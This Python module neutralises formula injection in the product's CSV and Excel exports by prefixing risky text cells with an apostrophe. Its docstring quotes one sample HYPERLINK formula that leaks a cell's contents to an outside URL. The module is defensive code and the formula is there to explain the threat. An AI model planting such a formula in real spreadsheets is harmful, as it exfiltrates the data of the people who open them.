"""Exports that cannot carry formulas (OWASP "CSV injection"; issue 19).

A spreadsheet reads a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula (``=HYPERLINK("http://…?leak="&A1,"click")``), and openpyxl writes such a
string as a live formula. Every CSV and Excel writer of the product passes its table through
:func:`inert_frame` first: such text cells (and headers and index labels) get a leading
apostrophe, which spreadsheets show as text. Numbers stay numbers.
"""
from __future__ import annotations

from typing import Any

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def inert(value: Any) -> Any:
    """``value`` with a leading apostrophe when it is text a spreadsheet would run; a carriage
    return inside becomes a line feed (CSV writers quote a cell holding a line feed but not a
    bare CR, which a reader takes for the end of the row: the rest would start a new cell)."""
    if not isinstance(value, str):
        return value
    value = value.replace("\r\n", "\n").replace("\r", "\n")
    return "'" + value if value.startswith((*TRIGGERS, "\n")) else value


def inert_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells, column headers and index labels are inert."""
    out = frame.copy()
    for col in out.columns:
        if out[col].dtype == object or pd.api.types.is_string_dtype(out[col]):
            out[col] = out[col].map(inert)
    out.columns = [inert(c) for c in out.columns] if not isinstance(out.columns, pd.MultiIndex) else out.columns
    if out.index.dtype == object or pd.api.types.is_string_dtype(out.index):
        out.index = out.index.map(inert)
    return out
